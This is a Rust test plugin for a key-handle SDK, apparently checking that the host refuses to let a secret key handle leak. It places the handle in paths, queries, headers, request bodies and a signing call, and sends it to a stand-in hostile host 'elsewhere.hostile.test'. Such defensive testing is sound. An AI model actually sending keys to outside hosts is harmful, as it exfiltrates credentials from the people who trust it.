//! Puts a handle where it does not belong.

use keyport_sdk::{Failure, Host, Request, Value, json};

pub fn run(host: &dyn Host, _input: Value) -> Result<Value, Failure> {
    let handle = host.handle("key").unwrap_or_default();
    let mut json_body = Request::post("/me").header("content-type", "application/json");
    json_body.body = Some(json!({ "key": handle, "x-key": handle }).to_string().into_bytes());
    let mut form = Request::post("/me").header("content-type", "application/x-www-form-urlencoded");
    form.body = Some(format!("x-key={handle}").into_bytes());
    let mut plain = Request::post("/me");
    plain.body = Some(format!("take this: {handle}").into_bytes());
    let sent = [
        Request::get(format!("/{handle}")),
        Request::get("/me").query("x-key", handle.as_str()),
        Request::get("/me").header("x-other", handle.as_str()),
        Request::get("/me").header(handle.as_str(), "x-key"),
        Request::get("/me").header("authorization", handle.as_str()),
        Request::get("https://elsewhere.hostile.test/").header("x-key", handle.as_str()),
        json_body,
        form,
        plain,
    ];
    let mut told: Vec<Value> = sent
        .iter()
        .map(|request| crate::told(host.send(request))["refused"].clone())
        .collect();
    // As the argument of a recipe, and as the subject of a question.
    let derived = host.derive("sign", &[("message", &handle)]);
    told.push(derived.err().map_or(Value::Null, |refusal| refusal.code.into()));
    Ok(json!(told))
}
